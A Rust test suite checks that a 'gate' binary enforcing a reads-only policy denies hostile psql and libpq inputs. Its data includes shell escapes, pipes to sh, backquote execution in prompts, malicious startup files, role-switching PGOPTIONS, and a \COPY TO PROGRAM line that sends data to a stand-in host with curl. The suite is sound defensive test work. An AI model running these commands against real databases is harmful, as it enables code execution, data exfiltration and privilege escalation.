//! The PostgreSQL client tools as a hostile agent would use them, through the real `gate` binary under a
//! reads-only policy: option abbreviations and unknown options, output and logging options, psql variables,
//! startup files, service files, `PGOPTIONS` and `options=`, pagers, every risky family of backslash commands,
//! and how `\ir` and `\cd` resolve files. Each case is written from psql's and libpq's documentation (and their
//! source, `startup.c`, `command.c`, `psqlscanslash.l`, `fe-connect.c`) and asserts the decision; legitimate reads
//! stay allowed. The last tests run the attacks for real against a PostgreSQL and check that nothing happened.

mod common;

use std::path::{Path, PathBuf};

use common::Home;
use common::postgres::Postgres;

use common::READS_ONLY;

/// Variables from the machine running the tests that would change what psql does.
const SCRUB: &[&str] = &[
    "PAGER",
    "PSQL_PAGER",
    "PSQL_WATCH_PAGER",
    "PSQLRC",
    "PGOPTIONS",
    "PGSERVICE",
    "PGSERVICEFILE",
    "PGHOST",
    "PGHOSTADDR",
    "PGPORT",
    "PGDATABASE",
    "PGUSER",
    "PGCLUSTER",
    "PGSYSCONFDIR",
    "PGCLIENTENCODING",
    "POSIXLY_CORRECT",
    "EDITOR",
    "VISUAL",
    "PSQL_EDITOR",
];

/// A gate home with the reads-only policy and, separately, a HOME for psql with the given files in it.
struct Case {
    gate: Home,
    home: tempfile::TempDir,
}

impl Case {
    fn new() -> Self {
        Case {
            gate: Home::with_policy(READS_ONLY),
            home: tempfile::tempdir().expect("temp HOME"),
        }
    }

    fn home(&self) -> &Path {
        self.home.path()
    }

    fn file(&self, name: &str, text: &str) -> PathBuf {
        let path = self.home().join(name);
        if let Some(dir) = path.parent() {
            std::fs::create_dir_all(dir).unwrap();
        }
        std::fs::write(&path, text).unwrap();
        path
    }

    fn command(&self, env: &[(&str, &str)]) -> assert_cmd::Command {
        let mut cmd = self.gate.gate();
        for var in SCRUB {
            cmd.env_remove(var);
        }
        cmd.env("HOME", self.home());
        for (k, v) in env {
            cmd.env(k, v);
        }
        cmd
    }

    /// `gate explain --json`: the decision and the kinds, with stdin empty.
    fn explain(&self, env: &[(&str, &str)], argv: &[&str]) -> (String, Vec<String>) {
        let out = self
            .command(env)
            .args(["explain", "--json", "--"])
            .args(argv)
            .write_stdin(Vec::new())
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{argv:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        let kinds = json["findings"]
            .as_array()
            .unwrap()
            .iter()
            .map(|f| f["kind"].as_str().unwrap().to_string())
            .collect();
        (json["decision"].as_str().unwrap().to_string(), kinds)
    }
}

/// One row: the command, extra environment, the decision, and a kind that must be among the findings.
struct Row<'a> {
    argv: &'a [&'a str],
    env: &'a [(&'a str, &'a str)],
    decision: &'a str,
    kind: &'a str,
}

const fn row<'a>(argv: &'a [&'a str], decision: &'a str, kind: &'a str) -> Row<'a> {
    Row {
        argv,
        env: &[],
        decision,
        kind,
    }
}

fn check(case: &Case, rows: &[Row<'_>]) {
    let mut failures = Vec::new();
    for r in rows {
        let (decision, kinds) = case.explain(r.env, r.argv);
        if decision != r.decision || !kinds.iter().any(|k| k == r.kind) {
            failures.push(format!(
                "{:?} {:?}: expected {} with {}, got {decision} {kinds:?}",
                r.env, r.argv, r.decision, r.kind
            ));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn legitimate_reads_stay_allowed() {
    let case = Case::new();
    case.file(
        ".psqlrc",
        "\\set QUIET 1\n\\pset null '(null)'\n\\set ON_ERROR_STOP on\n",
    );
    check(
        &case,
        &[
            row(
                &[
                    "psql",
                    "-X",
                    "-h",
                    "localhost",
                    "-d",
                    "app",
                    "-c",
                    "SELECT 1",
                ],
                "allow",
                "read",
            ),
            row(&["psql", "-c", "\\d+ items"], "allow", "read"),
            row(&["psql", "--comm=SELECT 1"], "allow", "read"),
            row(
                &[
                    "psql",
                    "-h",
                    "db",
                    "app",
                    "-At",
                    "-v",
                    "ON_ERROR_STOP=1",
                    "-c",
                    "SELECT count(*) FROM t",
                ],
                "allow",
                "read",
            ),
            row(
                &["psql", "--csv", "-c", "SELECT 1", "-c", "\\dt"],
                "allow",
                "read",
            ),
            row(&["psql", "-l"], "allow", "read"),
            row(&["psql", "--version"], "allow", "read"),
            row(
                &[
                    "psql",
                    "postgresql://ops@db.internal:5432/shop?sslmode=require",
                    "-c",
                    "SELECT 1",
                ],
                "allow",
                "read",
            ),
            Row {
                env: &[("PAGER", "less -S")],
                ..row(&["psql", "-c", "SELECT 1"], "allow", "read")
            },
            Row {
                env: &[("PGOPTIONS", "-c statement_timeout=5s")],
                ..row(&["psql", "-c", "SELECT 1"], "allow", "read")
            },
        ],
    );
}

#[test]
fn option_abbreviations_resolve_as_getopt_long_does() {
    let case = Case::new();
    check(
        &case,
        &[
            // `--comm` is --command, so its SQL is classified.
            row(
                &["psql", "-X", "--comm=DROP TABLE t"],
                "deny",
                "destructive_write",
            ),
            row(
                &["psql", "-X", "--fi=/nonexistent/x.sql"],
                "deny",
                "unknown",
            ),
            // `--o` is --output: the pipe runs.
            row(
                &["psql", "-X", "--o=|touch /tmp/gate-x", "-c", "SELECT 1"],
                "deny",
                "code_execution",
            ),
            // `--e` could be five options; getopt_long refuses it, and so does gate.
            row(&["psql", "-X", "--e", "-c", "SELECT 1"], "deny", "unknown"),
            row(
                &["psql", "-X", "--no-p", "-c", "SELECT 1"],
                "deny",
                "unknown",
            ),
            row(
                &["pg_restore", "--dbn=app", "app.dump"],
                "deny",
                "bulk_write",
            ),
            row(&["pg_dump", "--sche", "app"], "deny", "unknown"),
            row(&["dropdb", "--if-e", "shop"], "deny", "destructive_write"),
        ],
    );
}

#[test]
fn unknown_options_are_unknown() {
    let case = Case::new();
    check(
        &case,
        &[
            row(
                &["psql", "-X", "--frobnicate", "-c", "SELECT 1"],
                "deny",
                "unknown",
            ),
            row(&["psql", "-X", "-Y", "-c", "SELECT 1"], "deny", "unknown"),
            row(
                &["psql", "--cluster", "15/main", "-c", "SELECT 1"],
                "deny",
                "unknown",
            ),
            row(&["pg_dump", "--no-statistics", "app"], "deny", "unknown"),
            row(
                &["pg_restore", "--statistics-only", "-d", "app", "x.dump"],
                "deny",
                "unknown",
            ),
            row(&["createdb", "--frob", "shop"], "deny", "unknown"),
            row(&["psql", "-X", "-c"], "deny", "unknown"),
        ],
    );
}

#[test]
fn output_and_log_options_are_not_reads() {
    let case = Case::new();
    check(
        &case,
        &[
            row(
                &["psql", "-X", "-o", "|touch /tmp/gate-x", "-c", "SELECT 1"],
                "deny",
                "code_execution",
            ),
            row(
                &["psql", "-X", "-o/tmp/out.txt", "-c", "SELECT 1"],
                "deny",
                "data_export",
            ),
            row(
                &["psql", "-X", "--output=/tmp/out.txt", "-c", "SELECT 1"],
                "deny",
                "data_export",
            ),
            row(
                &["psql", "-X", "-L", "/tmp/session.log", "-c", "SELECT 1"],
                "deny",
                "data_export",
            ),
            row(
                &[
                    "psql",
                    "-X",
                    "--log-file=/tmp/session.log",
                    "-c",
                    "SELECT 1",
                ],
                "deny",
                "data_export",
            ),
            // psql opens -o while it reads the options, before -V stops it.
            row(&["psql", "-X", "-o", "|id", "-V"], "deny", "code_execution"),
            row(
                &["pg_restore", "-f", "/home/u/.bashrc", "evil.dump"],
                "deny",
                "data_export",
            ),
            row(
                &["pg_dump", "--inserts", "-f", "out.sql", "app"],
                "deny",
                "data_export",
            ),
        ],
    );
}

#[test]
fn psql_variables_are_allow_listed() {
    let case = Case::new();
    check(
        &case,
        &[
            row(
                &["psql", "-X", "-v", "ON_ERROR_STOP=1", "-c", "SELECT 1"],
                "allow",
                "read",
            ),
            row(
                &[
                    "psql",
                    "-X",
                    "-v",
                    "PROMPT1=%`touch /tmp/gate-p`",
                    "-c",
                    "SELECT 1",
                ],
                "deny",
                "code_execution",
            ),
            row(
                &[
                    "psql",
                    "-X",
                    "--set=HISTFILE=/home/u/.bashrc",
                    "-c",
                    "SELECT 1",
                ],
                "deny",
                "unknown",
            ),
            row(
                &["psql", "-X", "--variable=SINGLELINE=on", "-c", "SELECT 1"],
                "deny",
                "unknown",
            ),
            row(
                &["psql", "-X", "-v", "FUTURE_SPECIAL=x", "-c", "SELECT 1"],
                "deny",
                "unknown",
            ),
            row(
                &["psql", "-X", "-c", "\\set PROMPT2 '`id`'"],
                "deny",
                "code_execution",
            ),
            row(
                &["psql", "-X", "-c", "SELECT 'x' AS \"HISTFILE\" \\gset"],
                "deny",
                "unknown",
            ),
        ],
    );
}

#[test]
fn startup_files_are_read_and_classified() {
    let case = Case::new();
    case.file(".psqlrc", "DROP TABLE t;\n");
    let minor = Case::new();
    minor.file(".psqlrc-15.8", "\\! touch /tmp/gate-rc\n");
    let major = Case::new();
    major.file(".psqlrc-16", "SELECT 1 \\g |sh\n");
    let custom = Case::new();
    custom.file("rc/custom", "\\ir more.sql\n");
    custom.file("rc/more.sql", "TRUNCATE audit_log;\n");
    let quoted = Case::new();
    quoted.file(".psqlrc", "\\echo `touch /tmp/gate-rc`\n");
    check(
        &case,
        &[row(
            &["psql", "-c", "SELECT 1"],
            "deny",
            "destructive_write",
        )],
    );
    // -X skips them.
    check(
        &case,
        &[row(&["psql", "-X", "-c", "SELECT 1"], "allow", "read")],
    );
    // -l still reads them.
    check(&case, &[row(&["psql", "-l"], "deny", "destructive_write")]);
    check(
        &minor,
        &[row(&["psql", "-c", "SELECT 1"], "deny", "code_execution")],
    );
    check(
        &major,
        &[row(&["psql", "-c", "SELECT 1"], "deny", "code_execution")],
    );
    check(
        &custom,
        &[Row {
            env: &[("PSQLRC", "~/rc/custom")],
            ..row(&["psql", "-c", "SELECT 1"], "deny", "destructive_write")
        }],
    );
    check(
        &quoted,
        &[row(&["psql", "-c", "SELECT 1"], "deny", "code_execution")],
    );
}

#[test]
fn a_missing_home_is_unknown() {
    let case = Case::new();
    let out = case
        .command(&[])
        .env_remove("HOME")
        .args(["explain", "--json", "--", "psql", "-c", "SELECT 1"])
        .write_stdin(Vec::new())
        .output()
        .unwrap();
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(json["decision"], "deny");
    assert!(
        json["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["kind"] == "unknown"
                && f["detail"].as_str().unwrap().contains("password database"))
    );
}

#[test]
fn service_files_name_the_real_target() {
    let case = Case::new();
    case.file(
        ".pg_service.conf",
        "[dev]\nhost=localhost\ndbname=app\n[prod]\nhost=db.prod.internal\noptions=-c role=admin\n[odd]\nfrobnicate=1\n",
    );
    let other = case.file("elsewhere.conf", "[ci]\nhost=ci.internal\n");
    let other = other.to_str().unwrap();
    check(
        &case,
        &[
            row(
                &["psql", "-X", "service=dev", "-c", "SELECT 1"],
                "allow",
                "read",
            ),
            Row {
                env: &[("PGSERVICE", "dev")],
                ..row(&["psql", "-X", "-c", "SELECT 1"], "allow", "read")
            },
            row(
                &["psql", "-X", "service=prod", "-c", "SELECT 1"],
                "deny",
                "privilege_switch",
            ),
            row(
                &["psql", "-X", "service=odd", "-c", "SELECT 1"],
                "deny",
                "unknown",
            ),
            row(
                &["psql", "-X", "service=nowhere", "-c", "SELECT 1"],
                "deny",
                "unknown",
            ),
            Row {
                env: &[("PGSERVICEFILE", other), ("PGSERVICE", "ci")],
                ..row(&["psql", "-X", "-c", "SELECT 1"], "allow", "read")
            },
            Row {
                env: &[
                    ("PGSERVICEFILE", "/nonexistent/pg_service.conf"),
                    ("PGSERVICE", "ci"),
                ],
                ..row(&["psql", "-X", "-c", "SELECT 1"], "deny", "unknown")
            },
        ],
    );
    // The service's host is the target gate reports.
    let out = case
        .command(&[])
        .args([
            "explain",
            "--json",
            "--",
            "psql",
            "-X",
            "service=prod",
            "-c",
            "SELECT 1",
        ])
        .write_stdin(Vec::new())
        .output()
        .unwrap();
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(json["findings"][0]["target"]["host"], "db.prod.internal");
}

#[test]
fn server_options_are_allow_listed() {
    let case = Case::new();
    check(
        &case,
        &[
            Row {
                env: &[("PGOPTIONS", "-c standard_conforming_strings=off")],
                ..row(&["psql", "-X", "-c", "SELECT 1"], "deny", "unknown")
            },
            Row {
                env: &[("PGOPTIONS", "--backslash-quote=on")],
                ..row(&["psql", "-X", "-c", "SELECT 1"], "deny", "unknown")
            },
            Row {
                env: &[("PGOPTIONS", "-crole=postgres")],
                ..row(
                    &["psql", "-X", "-c", "SELECT 1"],
                    "deny",
                    "privilege_switch",
                )
            },
            Row {
                env: &[("PGOPTIONS", "-c session_preload_libraries=evil")],
                ..row(&["psql", "-X", "-c", "SELECT 1"], "deny", "unknown")
            },
            row(
                &[
                    "psql",
                    "-X",
                    "options='-c search_path=evil,pg_catalog' dbname=app",
                    "-c",
                    "SELECT lower('x')",
                ],
                "deny",
                "unknown",
            ),
            row(
                &[
                    "psql",
                    "-X",
                    "postgresql:///app?options=-c%20session_authorization%3Dpostgres",
                    "-c",
                    "SELECT 1",
                ],
                "deny",
                "privilege_switch",
            ),
            row(
                &[
                    "psql",
                    "-X",
                    "dbname=app client_encoding=SJIS",
                    "-c",
                    "SELECT 1",
                ],
                "deny",
                "unknown",
            ),
            row(
                &[
                    "psql",
                    "-X",
                    "dbname=app replication=database",
                    "-c",
                    "SELECT 1",
                ],
                "deny",
                "unknown",
            ),
        ],
    );
}

#[test]
fn pagers_and_editors() {
    let case = Case::new();
    check(
        &case,
        &[
            Row {
                env: &[("PAGER", "sh -c 'touch /tmp/gate-pager'")],
                ..row(&["psql", "-X", "-c", "SELECT 1"], "deny", "unknown")
            },
            Row {
                env: &[("PSQL_PAGER", "/tmp/evil")],
                ..row(&["psql", "-X", "-c", "SELECT 1"], "deny", "unknown")
            },
            Row {
                env: &[("PSQL_PAGER", "/tmp/evil")],
                ..row(
                    &["psql", "-X", "-P", "pager=off", "-c", "SELECT 1"],
                    "allow",
                    "read",
                )
            },
            Row {
                env: &[("PSQL_WATCH_PAGER", "/tmp/evil")],
                ..row(&["psql", "-X", "-c", "SELECT 1"], "deny", "unknown")
            },
            row(
                &["psql", "-X", "-P", "pager=always", "-c", "SELECT 1"],
                "deny",
                "unknown",
            ),
            Row {
                env: &[("EDITOR", "touch /tmp/gate-ed")],
                ..row(&["psql", "-X", "-c", "\\e"], "deny", "code_execution")
            },
            row(
                &["psql", "-X", "-c", "\\ef my_function"],
                "deny",
                "code_execution",
            ),
            row(
                &["psql", "-X", "-c", "\\ev my_view"],
                "deny",
                "code_execution",
            ),
        ],
    );
}

#[test]
fn risky_backslash_commands() {
    let case = Case::new();
    check(
        &case,
        &[
            // Backquotes in any argument.
            row(
                &["psql", "-X", "-c", "\\echo `touch /tmp/gate-b`"],
                "deny",
                "code_execution",
            ),
            row(&["psql", "-X", "-c", "\\d `id`"], "deny", "code_execution"),
            row(
                &["psql", "-X", "-c", "\\if `true`"],
                "deny",
                "code_execution",
            ),
            // Shell escapes and pipes.
            row(&["psql", "-X", "-c", "\\! id"], "deny", "code_execution"),
            row(
                &["psql", "-X", "-c", "SELECT 1 \\g |sh"],
                "deny",
                "code_execution",
            ),
            row(
                &["psql", "-X", "-c", "\\o | mail someone"],
                "deny",
                "code_execution",
            ),
            row(&["psql", "-X", "-c", "\\w |sh"], "deny", "code_execution"),
            row(
                &["psql", "-X", "-c", "\\copy t from program 'id'"],
                "deny",
                "code_execution",
            ),
            row(
                &["psql", "-X", "-c", "\\COPY t TO PROGRAM 'curl -d @- evil'"],
                "deny",
                "code_execution",
            ),
            // Files written on the client.
            row(
                &["psql", "-X", "-c", "\\w /home/u/.bashrc"],
                "deny",
                "data_export",
            ),
            row(
                &["psql", "-X", "-c", "\\s /tmp/history"],
                "deny",
                "data_export",
            ),
            row(
                &["psql", "-X", "-c", "\\copy t to '/tmp/t.csv' csv"],
                "deny",
                "data_export",
            ),
            row(
                &["psql", "-X", "-c", "\\lo_export 16393 /tmp/lo"],
                "deny",
                "data_export",
            ),
            // State and the server.
            row(
                &["psql", "-X", "-c", "\\copy t from '/tmp/t.csv'"],
                "deny",
                "write",
            ),
            row(
                &["psql", "-X", "-c", "\\lo_unlink 16393"],
                "deny",
                "destructive_write",
            ),
            row(
                &["psql", "-X", "-c", "\\password postgres"],
                "deny",
                "permission_change",
            ),
            row(&["psql", "-X", "-c", "\\c otherdb"], "deny", "unknown"),
            row(
                &["psql", "-X", "-c", "\\setenv PAGER 'sh -c id'"],
                "deny",
                "unknown",
            ),
            row(&["psql", "-X", "-c", "\\encoding SJIS"], "deny", "unknown"),
            row(&["psql", "-X", "-c", "\\!id"], "deny", "unknown"),
            row(&["psql", "-X", "-c", "\\frobnicate"], "deny", "unknown"),
            // A second command on the same line.
            row(
                &["psql", "-X", "-c", "\\echo hi \\! id"],
                "deny",
                "code_execution",
            ),
        ],
    );
}

#[test]
fn include_relative_and_cd_resolve_as_psql_does() {
    let case = Case::new();
    let scripts = case.home().join("scripts");
    case.file("scripts/main.sql", "\\ir lib/a.sql\n");
    case.file("scripts/lib/a.sql", "\\ir ../b.sql\n");
    case.file("scripts/b.sql", "DELETE FROM t;\n");
    case.file("scripts/harmless.sql", "SELECT 1;\n");
    case.file("b.sql", "SELECT 1;\n");
    case.file("lib/a.sql", "SELECT 1;\n");
    let main = scripts.join("main.sql");
    let main = main.to_str().unwrap();
    let cd = format!("\\cd {}", scripts.display());
    let tilde = Case::new();
    tilde.file("x.sql", "TRUNCATE t;\n");
    check(
        &case,
        &[
            // \ir follows the including script: main.sql → lib/a.sql → ../b.sql, which is scripts/b.sql.
            row(&["psql", "-X", "-f", main], "deny", "destructive_write"),
            // \i is relative to psql's directory (gate's cwd is the gate home here), where lib/a.sql is absent.
            row(&["psql", "-X", "-c", "\\i lib/a.sql"], "deny", "unknown"),
            row(&["psql", "-X", "-c", &cd], "deny", "unknown"),
            row(&["psql", "-X", "-c", "\\cd ~otheruser"], "deny", "unknown"),
            row(
                &["psql", "-X", "-c", "\\i ~/scripts/harmless.sql"],
                "allow",
                "read",
            ),
        ],
    );
    check(
        &tilde,
        &[row(
            &["psql", "-X", "-c", "\\i ~/x.sql"],
            "deny",
            "destructive_write",
        )],
    );
    // After \cd, a relative \i reads from the new directory.
    let script = case.file(
        "cdthen.sql",
        &format!("\\cd {}\n\\i b.sql\n", scripts.display()),
    );
    let script = script.to_str().unwrap();
    check(
        &case,
        &[row(
            &["psql", "-X", "-f", script],
            "deny",
            "destructive_write",
        )],
    );
}

/// One attack: psql's HOME, extra environment, and the arguments after the connection flags.
type Attack<'a> = (&'a Case, Vec<(&'a str, &'a str)>, Vec<&'a str>);

/// `gate run -- psql <connection to the test server> ARGS…`, with psql's HOME in the case's directory.
fn gated_psql(
    case: &Case,
    pg: &Postgres,
    env: &[(&str, &str)],
    args: &[&str],
) -> std::process::Output {
    case.command(env)
        .args(["run", "--", "psql"])
        .args(pg.conn_args())
        .args(args)
        .write_stdin(Vec::new())
        .output()
        .unwrap()
}

#[test]
fn attacks_against_a_real_server_are_refused_and_do_nothing() {
    let pg = Postgres::start();
    pg.psql("postgres", "CREATE DATABASE app");
    pg.psql("app", "CREATE TABLE t (id int); INSERT INTO t VALUES (1)");
    let marker_dir = tempfile::tempdir().unwrap();
    let marker = |name: &str| marker_dir.path().join(name);
    let touch = |name: &str| format!("touch {}", marker(name).display());

    // The control: a read runs, through a harmless psqlrc.
    let reads = Case::new();
    reads.file(".psqlrc", "\\set QUIET 1\n\\pset null '(null)'\n");
    let out = gated_psql(
        &reads,
        &pg,
        &[],
        &["-At", "-d", "app", "-c", "SELECT count(*) FROM t"],
    );
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(String::from_utf8_lossy(&out.stdout).trim(), "1");

    let rc = Case::new();
    rc.file(".psqlrc", "DROP TABLE t;\n");
    let rc_minor = Case::new();
    rc_minor.file(".psqlrc-15", &format!("\\! {}\n", touch("rc")));
    let plain = Case::new();
    let o_pipe = format!("|{}", touch("o"));
    let shell = format!("\\! {}", touch("shell"));
    let backquote = format!("\\echo `{}`", touch("backquote"));
    let prompt = format!("PROMPT1=%`{}`", touch("prompt"));
    let attacks: Vec<Attack<'_>> = vec![
        (&rc, vec![], vec!["-d", "app", "-c", "SELECT 1"]),
        (&rc_minor, vec![], vec!["-d", "app", "-c", "SELECT 1"]),
        (
            &plain,
            vec![],
            vec!["-d", "app", "-o", &o_pipe, "-c", "SELECT 1"],
        ),
        (&plain, vec![], vec!["-X", "-d", "app", "-c", &shell]),
        (&plain, vec![], vec!["-X", "-d", "app", "-c", &backquote]),
        (
            &plain,
            vec![],
            vec!["-X", "-d", "app", "-v", &prompt, "-c", "SELECT 1"],
        ),
        (
            &plain,
            vec![(
                "PGOPTIONS",
                "-c default_transaction_read_only=off -c role=postgres",
            )],
            vec!["-X", "-d", "app", "-c", "SELECT 1"],
        ),
        (
            &plain,
            vec![("PGOPTIONS", "-c standard_conforming_strings=off")],
            vec!["-X", "-d", "app", "-c", "SELECT 1"],
        ),
        (
            &plain,
            vec![],
            vec!["-X", "--comm=DROP TABLE t", "-d", "app"],
        ),
        (
            &plain,
            vec![],
            vec!["-X", "-d", "app", "-c", "\\copy t to program 'cat'"],
        ),
    ];
    for (case, env, args) in &attacks {
        let out = gated_psql(case, &pg, env, args);
        assert_eq!(
            out.status.code(),
            Some(77),
            "{env:?} {args:?} was not refused: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
    assert_eq!(
        pg.psql("app", "SELECT count(*) FROM t"),
        "1",
        "the table is still there"
    );
    for name in ["rc", "o", "shell", "backquote", "prompt"] {
        assert!(!marker(name).exists(), "{name}: the file was written");
    }
}
